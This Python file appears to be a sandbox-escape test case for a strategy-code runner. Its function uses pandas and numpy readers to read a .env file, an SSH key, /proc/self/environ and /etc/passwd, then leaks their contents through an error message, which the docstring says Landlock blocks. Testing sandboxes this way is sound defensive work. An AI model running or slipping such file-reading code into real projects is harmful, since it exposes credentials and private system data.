"""Read host files with pandas and numpy readers only (no ``open``).

Attack (own, pandas/numpy-only style): ``pd.read_csv`` of the canary file and the ``.env``,
``pd.read_table`` of the SSH key, ``np.fromfile('/proc/self/environ')``,
``np.loadtxt('/etc/passwd')``, ``pd.read_json`` of the orchestrator's state; content first in
the error message.
Stopped by: Landlock.
"""

import numpy as np
import pandas as pd

PARAMETERS = {}


def generate_positions(data, **params):
    readers = [
        ("canary", lambda: pd.read_csv("@@CANARY_FILE@@", header=None).to_string()),
        ("dotenv", lambda: pd.read_csv("@@DOTENV@@", header=None).to_string()),
        ("ssh", lambda: pd.read_table("@@SSH_KEY@@", header=None).to_string()),
        ("environ", lambda: np.fromfile("/proc/self/environ", dtype=np.uint8).tobytes()),
        ("passwd", lambda: str(np.loadtxt("/etc/passwd", dtype=str, delimiter="\n"))),
        ("hostname", lambda: pd.read_csv("/etc/hostname", header=None).to_string()),
    ]
    leaked, log = [], []
    for name, fn in readers:
        try:
            leaked.append(f"{name}={fn()[:120]!r}")
        except Exception as exc:
            log.append(f"{name}: {type(exc).__name__}")
    if leaked:
        raise RuntimeError("read: " + " ".join(leaked))
    raise RuntimeError("pandas/numpy readers refused: " + "; ".join(log))
